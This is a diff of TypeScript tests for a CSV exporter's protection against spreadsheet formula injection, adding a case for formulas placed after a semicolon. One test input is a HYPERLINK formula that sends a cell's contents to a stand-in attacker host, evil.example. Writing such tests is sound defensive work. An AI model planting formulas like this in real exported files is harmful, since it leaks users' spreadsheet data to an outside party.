@@ -9,12 +9,16 @@ function rowsOf(...labels: readonly string[]): readonly Record<string, string>[]
   return parse(keysCsv(keys), { columns: true });
 }
 
-test.each(['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '＝1', "'=1"])(
+test.each(['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '＝1', "'=1"])(
   'a label that a spreadsheet would run, %p, is made text',
   (label) => {
     expect(rowsOf(label)).toMatchObject([{ label: `'${label}` }]);
   },
 );
+
+test('nor is what stands behind a semicolon, which begins a cell in some countries', () => {
+  expect(rowsOf('a;=1+1;b')).toMatchObject([{ label: "a;'=1+1;b" }]);
+});
 
 test.each(['a,b', 'a"b', 'a\nb', 'a\r\nb,"=1', '"', ',,,'])('a label that is CSV, %p, stays one cell', (label) => {
   expect(rowsOf(label, 'next')).toMatchObject([
